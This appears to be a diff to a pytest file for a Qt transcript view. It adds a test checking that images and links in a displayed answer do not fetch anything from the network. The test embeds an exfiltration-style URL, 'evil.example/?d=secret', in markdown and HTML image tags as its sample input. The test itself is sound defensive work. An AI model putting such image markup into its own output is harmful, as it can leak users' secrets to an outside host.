@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import socket
+
 import pytest
-from PySide6.QtWidgets import QAbstractButton, QLabel, QLineEdit, QWidget
+from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QLineEdit, QWidget
 
 from app.base.pages.stored_page import Page, PageKind, StoredDisplay, pack
 from app.base.types import Delta, Part, PartAdded, PartKind, Prompt, ResultFacts
@@ -89,6 +91,19 @@ def test_a_row_without_a_page_shows_what_was_returned(transcript: Transcript) ->
     assert "Read a.example" in transcript.plainText()
     assert "L0: x" in transcript.plainText()
     assert not buttons(transcript, "rawOutput")
+
+
+def test_nothing_in_an_answer_loads_by_itself(
+    transcript: Transcript, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    reached: list[object] = []
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *place, **more: reached.append(place))
+    monkeypatch.setattr(socket.socket, "connect", lambda self, place: reached.append(place))
+    address = "https://evil.example/?d=secret"
+    show(transcript, Part(f"![so]({address}) <img src='{address}'> [see]({address})"))
+    QApplication.processEvents()
+    assert "see" in transcript.plainText()
+    assert reached == []
 
 
 # --- Questions --------------------------------------------------------------------------------
